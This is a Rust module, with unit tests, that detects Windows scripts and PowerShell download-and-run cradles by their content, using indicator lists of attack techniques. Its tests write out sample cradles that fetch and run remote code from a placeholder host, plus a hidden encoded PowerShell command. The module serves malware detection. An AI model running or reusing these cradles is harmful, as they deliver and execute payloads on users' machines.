//! Scripts recognised by what they contain, whatever they are called: HTA, encoded VBE/JSE,
//! Windows Script Files and scriptlets, VBScript and JScript driving Windows Script Host objects,
//! PowerShell download-and-run cradles, batch files.
//!
//! Ordinary text must not look like a script: every kind needs either a marker no prose carries
//! (`<hta:application`, `#@~^…==`, `@echo off` as the first line) or several indicators together
//! (an object factory *and* a Windows Script Host object *and* the language's own syntax).

use super::bytes;
use aho_corasick::MatchKind;
use aho_corasick::dfa::DFA;
use std::sync::LazyLock;

/// How much of a file is read for script indicators. Scripts are small; padding past this only
/// hides indicators that a reader's eye would not reach either.
const SCAN_LIMIT: usize = 1024 * 1024;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ScriptKind {
    Hta,
    /// Script Encoder output (`#@~^`): VBE or JSE.
    Encoded,
    Wsf,
    Scriptlet,
    VbScript,
    JScript,
    PowerShell,
    Batch,
}

impl ScriptKind {
    pub fn label(self) -> &'static str {
        match self {
            ScriptKind::Hta => "HTML application (HTA)",
            ScriptKind::Encoded => "encoded VBScript/JScript (VBE/JSE)",
            ScriptKind::Wsf => "Windows Script File (WSF)",
            ScriptKind::Scriptlet => "Windows scriptlet (SCT)",
            ScriptKind::VbScript => "VBScript",
            ScriptKind::JScript => "JScript",
            ScriptKind::PowerShell => "PowerShell script",
            ScriptKind::Batch => "batch file",
        }
    }
}

/// A script found in a file: its kind and what gave it away.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ScriptHit {
    pub kind: ScriptKind,
    pub indicators: Vec<&'static str>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Class {
    /// Settles the kind alone.
    Hta,
    Scriptlet,
    WsfJob,
    WsfScript,
    /// Makes COM objects: `CreateObject(`, `new ActiveXObject(`.
    Factory,
    /// Objects only Windows Script Host (not a browser) offers: shell, files, WMI, streams.
    WshObject,
    VbSyntax,
    JsSyntax,
    /// PowerShell doing something a document never needs: download, decode, run, hide.
    PsAction,
    PowerShellWord,
    BatchAction,
}

/// (lower-case pattern, shown as, class)
const INDICATORS: &[(&str, &str, Class)] = &[
    ("<hta:application", "<HTA:APPLICATION>", Class::Hta),
    ("<scriptlet", "<scriptlet>", Class::Scriptlet),
    ("<job", "<job>", Class::WsfJob),
    ("<script language=", "<script language=…>", Class::WsfScript),
    ("createobject(", "CreateObject", Class::Factory),
    ("getobject(", "GetObject", Class::Factory),
    ("activexobject(", "ActiveXObject", Class::Factory),
    ("wscript.shell", "WScript.Shell", Class::WshObject),
    ("wscript.network", "WScript.Network", Class::WshObject),
    ("wscript.sleep", "WScript.Sleep", Class::WshObject),
    ("wscript.quit", "WScript.Quit", Class::WshObject),
    ("wscript.echo", "WScript.Echo", Class::WshObject),
    ("wscript.arguments", "WScript.Arguments", Class::WshObject),
    (
        "wscript.scriptfullname",
        "WScript.ScriptFullName",
        Class::WshObject,
    ),
    ("shell.application", "Shell.Application", Class::WshObject),
    (
        "scripting.filesystemobject",
        "Scripting.FileSystemObject",
        Class::WshObject,
    ),
    ("adodb.stream", "ADODB.Stream", Class::WshObject),
    ("winmgmts:", "winmgmts:", Class::WshObject),
    ("schedule.service", "Schedule.Service", Class::WshObject),
    ("dim ", "Dim", Class::VbSyntax),
    ("end sub", "End Sub", Class::VbSyntax),
    ("end function", "End Function", Class::VbSyntax),
    ("end if", "End If", Class::VbSyntax),
    (
        "on error resume next",
        "On Error Resume Next",
        Class::VbSyntax,
    ),
    ("executeglobal", "ExecuteGlobal", Class::VbSyntax),
    ("= createobject(", "Set … = CreateObject", Class::VbSyntax),
    ("chr(", "Chr()", Class::VbSyntax),
    ("var ", "var", Class::JsSyntax),
    ("function(", "function()", Class::JsSyntax),
    ("function ", "function", Class::JsSyntax),
    ("new activexobject(", "new ActiveXObject", Class::JsSyntax),
    ("eval(", "eval()", Class::JsSyntax),
    ("invoke-expression", "Invoke-Expression", Class::PsAction),
    ("iex(", "IEX", Class::PsAction),
    ("iex (", "IEX", Class::PsAction),
    ("| iex", "IEX", Class::PsAction),
    ("downloadstring(", "DownloadString", Class::PsAction),
    ("downloadfile(", "DownloadFile", Class::PsAction),
    ("downloaddata(", "DownloadData", Class::PsAction),
    ("net.webclient", "Net.WebClient", Class::PsAction),
    ("invoke-webrequest", "Invoke-WebRequest", Class::PsAction),
    ("invoke-restmethod", "Invoke-RestMethod", Class::PsAction),
    ("start-bitstransfer", "Start-BitsTransfer", Class::PsAction),
    ("frombase64string(", "FromBase64String", Class::PsAction),
    ("-encodedcommand", "-EncodedCommand", Class::PsAction),
    (
        "-executionpolicy bypass",
        "-ExecutionPolicy Bypass",
        Class::PsAction,
    ),
    ("-exec bypass", "-ExecutionPolicy Bypass", Class::PsAction),
    ("-ep bypass", "-ExecutionPolicy Bypass", Class::PsAction),
    (
        "-windowstyle hidden",
        "-WindowStyle Hidden",
        Class::PsAction,
    ),
    ("-w hidden", "-WindowStyle Hidden", Class::PsAction),
    (
        "reflection.assembly]::load",
        "[Reflection.Assembly]::Load",
        Class::PsAction,
    ),
    ("add-mppreference", "Add-MpPreference", Class::PsAction),
    ("set-mppreference", "Set-MpPreference", Class::PsAction),
    ("start-process", "Start-Process", Class::PsAction),
    ("powershell", "powershell", Class::PowerShellWord),
    ("pwsh", "powershell", Class::PowerShellWord),
    ("%comspec%", "%COMSPEC%", Class::BatchAction),
    ("cmd /c", "cmd /c", Class::BatchAction),
    ("cmd.exe /c", "cmd /c", Class::BatchAction),
    (
        "bitsadmin /transfer",
        "bitsadmin /transfer",
        Class::BatchAction,
    ),
    (
        "certutil -urlcache",
        "certutil -urlcache",
        Class::BatchAction,
    ),
    (
        "certutil.exe -urlcache",
        "certutil -urlcache",
        Class::BatchAction,
    ),
    ("certutil -decode", "certutil -decode", Class::BatchAction),
    ("schtasks /create", "schtasks /create", Class::BatchAction),
    ("reg add ", "reg add", Class::BatchAction),
    ("%~dp0", "%~dp0", Class::BatchAction),
    ("mshta ", "mshta", Class::BatchAction),
    ("rundll32 ", "rundll32", Class::BatchAction),
    ("regsvr32 ", "regsvr32", Class::BatchAction),
];

/// The indicators as one DFA, ASCII case ignored, walked with `dfa_walk` (three stretches of a
/// long text at once: scripts are short, but a kernel configuration is 200 KB of text).
static AUTOMATON: LazyLock<(DFA, usize)> = LazyLock::new(|| {
    let dfa = DFA::builder()
        .ascii_case_insensitive(true)
        .match_kind(MatchKind::Standard)
        .build(INDICATORS.iter().map(|(p, _, _)| p))
        .expect("the indicator patterns are plain literals");
    let longest = INDICATORS
        .iter()
        .map(|(p, _, _)| p.len())
        .max()
        .unwrap_or(0);
    (dfa, longest)
});

/// The text of a file, if it is text: UTF-8 (or any ASCII-compatible encoding) as is, UTF-16
/// decoded. `None` for binary data.
fn text_of(data: &[u8]) -> Option<std::borrow::Cow<'_, [u8]>> {
    let data = data.get(..SCAN_LIMIT).unwrap_or(data);
    let utf16 = |bytes: &[u8], enc: &'static encoding_rs::Encoding| {
        let (text, _) = enc.decode_without_bom_handling(bytes);
        Some(std::borrow::Cow::Owned(text.into_owned().into_bytes()))
    };
    if let Some(rest) = data.strip_prefix(&[0xFF, 0xFE]) {
        return utf16(rest, encoding_rs::UTF_16LE);
    }
    if let Some(rest) = data.strip_prefix(&[0xFE, 0xFF]) {
        return utf16(rest, encoding_rs::UTF_16BE);
    }
    let data = data.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(data);
    let head = data.get(..4096).unwrap_or(data);
    if head.contains(&0) {
        // UTF-16LE without a byte order mark: ASCII text has a zero in every odd byte.
        let odd_zero = head.iter().skip(1).step_by(2).filter(|&&b| b == 0).count();
        if head.len() >= 16 && odd_zero * 10 >= head.len() / 2 * 9 {
            return utf16(data, encoding_rs::UTF_16LE);
        }
        return None;
    }
    bytes::looks_like_text(data).then_some(std::borrow::Cow::Borrowed(data))
}

/// Recognises a script by its content.
pub fn detect(data: &[u8]) -> Option<ScriptHit> {
    let text = text_of(data)?;
    let text: &[u8] = &text;
    let (dfa, longest) = &*AUTOMATON;
    let mut found: Vec<usize> = crate::text::dfa_walk::walk(dfa, text, *longest)
        .into_iter()
        .map(|(_, i)| i)
        .collect();
    found.sort_unstable();
    found.dedup();
    let has = |class: Class| {
        found
            .iter()
            .any(|&i| INDICATORS.get(i).is_some_and(|(_, _, c)| *c == class))
    };
    let shown = |classes: &[Class]| {
        let mut out: Vec<&'static str> = Vec::new();
        for &i in &found {
            if let Some((_, name, c)) = INDICATORS.get(i)
                && classes.contains(c)
                && !out.contains(name)
            {
                out.push(name);
            }
        }
        out
    };
    let hit =
        |kind: ScriptKind, indicators: Vec<&'static str>| Some(ScriptHit { kind, indicators });

    if has(Class::Hta) {
        return hit(ScriptKind::Hta, shown(&[Class::Hta, Class::WshObject]));
    }
    if let Some(marker) = encoded_script_marker(text) {
        return hit(ScriptKind::Encoded, vec![marker]);
    }
    if has(Class::Scriptlet) && (has(Class::WsfScript) || text_has(text, b"<registration")) {
        return hit(
            ScriptKind::Scriptlet,
            shown(&[Class::Scriptlet, Class::WsfScript, Class::WshObject]),
        );
    }
    if has(Class::WsfJob) && has(Class::WsfScript) {
        return hit(
            ScriptKind::Wsf,
            shown(&[Class::WsfJob, Class::WsfScript, Class::WshObject]),
        );
    }
    // `encoded_powershell` looks only where `powershell` or `pwsh` is, which the indicators
    // have found already.
    let encoded_ps = has(Class::PowerShellWord)
        .then(|| encoded_powershell(text))
        .flatten();
    if let Some(marker) = encoded_ps {
        let mut ind = vec![marker];
        ind.extend(shown(&[Class::PsAction]));
        return hit(ScriptKind::PowerShell, ind);
    }
    // From here on the evidence is a handful of words that documentation can quote too (a README
    // with an install one-liner): text that is mostly sentences is not taken for a script. Most
    // text has no such words, and is not read line by line for sentences.
    let code = code_hit(text, &has, &shown)?;
    if mostly_prose(text) {
        return None;
    }
    Some(code)
}

/// The script `detect` sees in a few indicators together, if the text is not prose: a Windows
/// Script Host object made by a factory in the language's syntax, PowerShell actions, a batch
/// file's first line or actions.
fn code_hit(
    text: &[u8],
    has: &dyn Fn(Class) -> bool,
    shown: &dyn Fn(&[Class]) -> Vec<&'static str>,
) -> Option<ScriptHit> {
    let hit = |kind: ScriptKind, indicators: Vec<&'static str>| ScriptHit { kind, indicators };
    if has(Class::Factory) && has(Class::WshObject) {
        let js =
            text_has(text, b"activexobject(") || (has(Class::JsSyntax) && !has(Class::VbSyntax));
        if js && has(Class::JsSyntax) {
            return Some(hit(
                ScriptKind::JScript,
                shown(&[Class::Factory, Class::WshObject]),
            ));
        }
        if has(Class::VbSyntax) {
            return Some(hit(
                ScriptKind::VbScript,
                shown(&[Class::Factory, Class::WshObject]),
            ));
        }
    }
    let ps_actions = shown(&[Class::PsAction]);
    if ps_actions.len() >= 3 || (ps_actions.len() >= 2 && has(Class::PowerShellWord)) {
        return Some(hit(ScriptKind::PowerShell, ps_actions));
    }
    if starts_with_echo_off(text) {
        let mut ind = vec!["@echo off"];
        ind.extend(shown(&[Class::BatchAction]));
        return Some(hit(ScriptKind::Batch, ind));
    }
    let batch = shown(&[Class::BatchAction]);
    if batch.len() >= 3 {
        return Some(hit(ScriptKind::Batch, batch));
    }
    None
}

/// Documentation rather than a script: a Markdown code fence, or at least a third of the
/// non-empty lines (of the first 2,000) reading like sentences — six or more words, almost only
/// letters, none of the brackets, operators and sigils code is made of. Comment lines never count
/// as sentences.
fn mostly_prose(text: &[u8]) -> bool {
    let (mut lines, mut prose) = (0usize, 0usize);
    for line in text.split(|&b| b == b'\n').take(2000) {
        let line = line.trim_ascii();
        if line.is_empty() {
            continue;
        }
        if line.starts_with(b"```") || line.starts_with(b"~~~") {
            return true;
        }
        lines += 1;
        // Comment lines are code, however wordy: junk comments are how scripts get padded.
        let comment = [&b"'"[..], b"//", b"/*", b"::", b"<#", b"#"]
            .iter()
            .any(|p| line.starts_with(p))
            || line
                .get(..4)
                .is_some_and(|p| p.eq_ignore_ascii_case(b"rem "));
        if comment {
            continue;
        }
        let words = line
            .split(|b| b.is_ascii_whitespace())
            .filter(|w| !w.is_empty())
            .count();
        let code = line.iter().any(|b| {
            matches!(
                b,
                b'(' | b')' | b'=' | b';' | b'$' | b'{' | b'}' | b'%' | b'|' | b'"'
            )
        });
        let letters = line
            .iter()
            .filter(|b| b.is_ascii_alphabetic() || **b >= 0x80)
            .count();
        let visible = line.iter().filter(|b| !b.is_ascii_whitespace()).count();
        if words >= 6 && !code && letters * 10 >= visible * 8 {
            prose += 1;
        }
    }
    lines > 0 && prose * 3 > lines
}

fn text_has(text: &[u8], needle: &[u8]) -> bool {
    let Some(&first) = needle.first() else {
        return true;
    };
    let (lower, upper) = (first.to_ascii_lowercase(), first.to_ascii_uppercase());
    memchr::memchr2_iter(lower, upper, text).any(|i| {
        text.get(i..i + needle.len())
            .is_some_and(|w| w.eq_ignore_ascii_case(needle))
    })
}

/// Script Encoder output starts `#@~^` then six base64 characters (the length) and `==`.
fn encoded_script_marker(text: &[u8]) -> Option<&'static str> {
    let mut from = 0;
    while let Some(i) = text.get(from..).and_then(|t| bytes::find(t, b"#@~^")) {
        let at = from + i + 4;
        let len_ok = text.get(at..at + 6).is_some_and(|l| {
            l.iter()
                .all(|b| b.is_ascii_alphanumeric() || *b == b'+' || *b == b'/')
        });
        if len_ok && text.get(at + 6..at + 8) == Some(b"==") {
            return Some("#@~^ (Script Encoder marker)");
        }
        from = at;
    }
    None
}

/// `powershell … -e[nc[odedcommand]] <base64>`: a command hidden in base64.
fn encoded_powershell(text: &[u8]) -> Option<&'static str> {
    if !text_has(text, b"powershell") && !text_has(text, b"pwsh") {
        return None;
    }
    let lower = text.to_ascii_lowercase();
    for flag in [
        &b" -e "[..],
        b" -en ",
        b" -enc ",
        b" -enco ",
        b" -encodedcommand ",
        b" -ec ",
    ] {
        let mut from = 0;
        while let Some(i) = lower.get(from..).and_then(|t| bytes::find(t, flag)) {
            let start = from + i + flag.len();
            let run = lower
                .get(start..)
                .unwrap_or_default()
                .iter()
                .skip_while(|b| **b == b' ' || **b == b'"' || **b == b'\'')
                .take_while(|b| {
                    b.is_ascii_alphanumeric() || **b == b'+' || **b == b'/' || **b == b'='
                })
                .count();
            if run >= 40 {
                return Some("-EncodedCommand <base64>");
            }
            from = start;
        }
    }
    None
}

/// A batch file's usual first line, after blank lines and `rem`/`::` comments.
fn starts_with_echo_off(text: &[u8]) -> bool {
    for line in text.split(|&b| b == b'\n').take(20) {
        let line = line.trim_ascii();
        if line.is_empty()
            || line.starts_with(b"::")
            || line
                .get(..4)
                .is_some_and(|p| p.eq_ignore_ascii_case(b"rem "))
        {
            continue;
        }
        return line.eq_ignore_ascii_case(b"@echo off");
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_has_agrees_with_a_window_by_window_search() {
        let reference = |text: &[u8], needle: &[u8]| {
            text.windows(needle.len())
                .any(|w| w.eq_ignore_ascii_case(needle))
        };
        let mut seed = 0x2545_f491_4f6c_dd1du64;
        let alphabet = b"pPwWsShHeElL \n\x00\xff";
        for len in 0..300 {
            let text: Vec<u8> = (0..len)
                .map(|_| {
                    seed ^= seed << 13;
                    seed ^= seed >> 7;
                    seed ^= seed << 17;
                    alphabet[(seed % alphabet.len() as u64) as usize]
                })
                .collect();
            for needle in [&b"pwsh"[..], b"powershell", b"p", b"shell"] {
                assert_eq!(
                    text_has(&text, needle),
                    reference(&text, needle),
                    "{text:?}"
                );
            }
        }
        assert!(text_has(b"run POWERSHELL -enc", b"powershell"));
        assert!(!text_has(b"power shell", b"powershell"));
    }

    fn kind(text: &str) -> Option<ScriptKind> {
        detect(text.as_bytes()).map(|h| h.kind)
    }

    #[test]
    fn each_kind_is_recognised() {
        assert_eq!(
            kind("<html><head><HTA:APPLICATION ID=x></head></html>"),
            Some(ScriptKind::Hta)
        );
        assert_eq!(
            kind("#@~^DgAAAA==\\ko$K6,JCV^GJ@#@&HAQAAA==^#~@"),
            Some(ScriptKind::Encoded)
        );
        assert_eq!(
            kind("<job id=\"a\"><script language=\"JScript\">WScript.Echo(1)</script></job>"),
            Some(ScriptKind::Wsf)
        );
        assert_eq!(
            kind(
                "<?XML version=\"1.0\"?><scriptlet><registration progid=\"x\"/><script language=\"JScript\"></script></scriptlet>"
            ),
            Some(ScriptKind::Scriptlet)
        );
        assert_eq!(
            kind("Dim sh\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"calc\"\r\n"),
            Some(ScriptKind::VbScript)
        );
        assert_eq!(
            kind("var s = new ActiveXObject(\"WScript.Shell\");\ns.Run(\"calc\");\n"),
            Some(ScriptKind::JScript)
        );
        assert_eq!(
            kind("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"),
            Some(ScriptKind::PowerShell)
        );
        assert_eq!(
            kind(&format!(
                "powershell -nop -w hidden -enc {}",
                "SQBFAFgA".repeat(8)
            )),
            Some(ScriptKind::PowerShell)
        );
        assert_eq!(
            kind("rem setup\r\n@ECHO OFF\r\nstart calc.exe\r\n"),
            Some(ScriptKind::Batch)
        );
    }

    /// The indicators the DFA walk finds are those of the library's overlapping search, on
    /// texts long enough to be walked in stretches, with indicators across the stretches' seams.
    #[test]
    fn the_walk_finds_what_the_overlapping_search_finds() {
        let search = aho_corasick::AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::Standard)
            .build(INDICATORS.iter().map(|(p, _, _)| p))
            .expect("plain literals");
        let mut pieces: Vec<String> = INDICATORS.iter().map(|(p, _, _)| p.to_string()).collect();
        pieces.extend(INDICATORS.iter().map(|(_, shown, _)| shown.to_string()));
        pieces.extend(
            [
                "CONFIG_X=y\n",
                "# is not set\n",
                " ",
                "e",
                "wscript",
                "-",
                "(",
                "é",
            ]
            .map(String::from),
        );
        let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
        let mut g = crate::text::generated::Generated::new(0x5c21_97f0);
        let (dfa, longest) = &*AUTOMATON;
        for round in 0..400 {
            let mut text = String::new();
            let length = if round % 2 == 0 { 200 } else { 4000 };
            while text.len() < length {
                text.push_str(g.pick(&pieces));
            }
            let mut walked: Vec<usize> =
                crate::text::dfa_walk::walk(dfa, text.as_bytes(), *longest)
                    .into_iter()
                    .map(|(_, i)| i)
                    .collect();
            walked.sort_unstable();
            walked.dedup();
            let mut searched: Vec<usize> = search
                .find_overlapping_iter(&text)
                .map(|m| m.pattern().as_usize())
                .collect();
            searched.sort_unstable();
            searched.dedup();
            assert_eq!(walked, searched, "{text}");
        }
    }

    #[test]
    fn utf16_scripts_are_read() {
        let text = "Set o = CreateObject(\"Scripting.FileSystemObject\")\r\nDim x\r\n";
        let mut le = vec![0xFF, 0xFE];
        le.extend(text.encode_utf16().flat_map(|u| u.to_le_bytes()));
        assert_eq!(detect(&le).map(|h| h.kind), Some(ScriptKind::VbScript));
        let bare: Vec<u8> = text.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
        assert_eq!(detect(&bare).map(|h| h.kind), Some(ScriptKind::VbScript));
    }

    #[test]
    fn ordinary_text_is_not_a_script() {
        for text in [
            "Hello,\nplease find the minutes attached. We set up the meeting; end if needed.\n",
            "Dim the lights and create objects for the museum exhibition.\n",
            // A web page using XMLHttpRequest through ActiveX: no Windows Script Host object.
            "<html><script>var x = new ActiveXObject(\"Microsoft.XMLHTTP\");</script></html>",
            // Prose about PowerShell mentions one thing, not a cradle.
            "Our admins use powershell to run Start-Process for updates.\n",
            "To echo off a wall... @echo is not a command\n",
            "Tips: use cmd /c to run a command.\n",
        ] {
            assert_eq!(kind(text), None, "{text}");
        }
        assert_eq!(detect(b"\x00\x01\x02binary\x00\x00"), None);
        // Documentation quoting an install one-liner among its sentences.
        let mut doc = String::new();
        for _ in 0..10 {
            doc.push_str(
                "Install the build tools from the vendor site before you continue here.\n",
            );
        }
        doc.push_str(
            "iex ((New-Object System.Net.WebClient).DownloadString('https://x.example/i.ps1'))\n",
        );
        assert_eq!(kind(&doc), None);
        // A Markdown file with the one-liner in a code block.
        let md = "# Build\n\nRun:\n\n```powershell\niex ((New-Object Net.WebClient).DownloadString('https://x.example/i.ps1'))\n```\n";
        assert_eq!(kind(md), None);
        // Padding a script with wordy comments does not make it prose.
        let mut padded = String::from("Dim sh\r\nSet sh = CreateObject(\"WScript.Shell\")\r\n");
        for _ in 0..50 {
            padded.push_str("' the quick brown fox jumps over the lazy dog\r\n");
        }
        assert_eq!(kind(&padded), Some(ScriptKind::VbScript));
        // The same one-liner on its own is a script.
        assert_eq!(
            kind(
                "iex ((New-Object System.Net.WebClient).DownloadString('https://x.example/i.ps1'))\n"
            ),
            Some(ScriptKind::PowerShell)
        );
    }
}
